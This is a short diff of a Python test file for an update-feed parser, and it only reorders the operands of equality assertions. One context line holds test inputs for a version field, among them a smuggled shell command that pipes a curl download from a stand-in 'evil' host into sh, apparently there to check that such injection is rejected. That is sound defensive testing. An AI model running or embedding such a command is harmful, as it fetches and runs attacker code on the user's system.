@@ -75,7 +75,7 @@ def test_1000_entries_are_read() -> None:
     """The longest list that is read has 1,000 entries."""
     feed = listed(*({"version": f"4.2.{number}"} for number in range(1000)))
     assert feed.updates is not None
-    assert 1000 == len(feed.updates)
+    assert len(feed.updates) == 1000
 
 
 @pytest.mark.parametrize(
@@ -108,7 +108,7 @@ def test_bad_version_skips_its_entry_alone(entry: object, warning: str) -> None:
     expected = Feed(
         updates=(update("4.2.8"), update("4.2.10")), is_complete=False, warnings=(f"updatesAvailable{warning}",)
     )
-    assert expected == feed
+    assert feed == expected
 
 
 @pytest.mark.parametrize("text", ["4.5.1; curl http://evil/x|sh #", "4.5.1 [click](http://evil.example)"])
@@ -171,4 +171,4 @@ def test_type_that_was_said_stands() -> None:
 
 def test_without_a_list_nothing_is_newer() -> None:
     """An answer without a list names no updates."""
-    assert () == newer_updates(Feed(updates=None), version("4.2.0"))
+    assert newer_updates(Feed(updates=None), version("4.2.0")) == ()
